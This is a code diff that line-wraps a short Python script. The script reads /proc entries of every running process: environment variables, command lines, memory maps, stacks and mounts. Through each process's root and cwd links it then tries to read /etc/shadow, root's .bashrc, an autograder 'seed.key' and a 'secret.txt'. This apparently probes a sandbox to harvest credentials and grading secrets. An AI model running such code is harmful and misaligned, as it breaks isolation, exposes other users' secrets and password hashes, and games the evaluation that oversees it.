@@ -1,16 +1,34 @@
-"""Reads what /proc tells of every process: environment, command line, maps, memory, root and open files, and of the machine."""
+"""Reads what /proc tells of every process: environment, command line, maps, memory, root and open
+files, and of the machine.
+"""
 
 # %%
 import glob
 import os
 
 for path in [*glob.glob("/proc/[0-9]*"), "/proc/self", "/proc/thread-self"]:
-    for name in ("environ", "cmdline", "maps", "root", "cwd", "stack", "syscall", "auxv", "mountinfo", "fdinfo/0"):
+    for name in (
+        "environ",
+        "cmdline",
+        "maps",
+        "root",
+        "cwd",
+        "stack",
+        "syscall",
+        "auxv",
+        "mountinfo",
+        "fdinfo/0",
+    ):
         try:
             print(path, name, open(f"{path}/{name}", "rb").read(3_000))
         except OSError:
             pass
-    for deeper in ("root/etc/shadow", "root/root/.bashrc", "root/work/main/autograder/seed.key", "cwd/secret.txt"):
+    for deeper in (
+        "root/etc/shadow",
+        "root/root/.bashrc",
+        "root/work/main/autograder/seed.key",
+        "cwd/secret.txt",
+    ):
         try:
             print(open(f"{path}/{deeper}", "rb").read(3_000))
         except OSError:
